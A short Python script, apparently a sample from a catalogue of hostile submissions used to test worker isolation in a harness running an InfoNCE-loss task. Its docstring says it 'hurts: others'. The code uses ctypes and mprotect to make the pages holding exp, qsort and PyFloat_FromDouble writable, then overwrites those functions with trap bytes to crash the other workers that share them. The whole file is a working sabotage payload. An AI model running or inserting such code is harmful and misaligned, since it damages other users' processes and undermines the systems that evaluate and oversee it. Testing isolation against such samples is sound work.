"""Overwrites functions of shared libraries in memory, whose pages it shares with other workers.
stopped by: fresh worker
part: info_nce
hurts: others
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for library in (libc, ctypes.CDLL("libm.so.6"), ctypes.pythonapi):
    for name in ("PyFloat_FromDouble", "exp", "qsort"):
        try:
            address = ctypes.cast(getattr(library, name), ctypes.c_void_p).value
        except AttributeError:
            continue
        page = address & ~4095
        if libc.mprotect(ctypes.c_void_p(page), 8192, 7) == 0:
            ctypes.memset(address, 0xCC, 64)
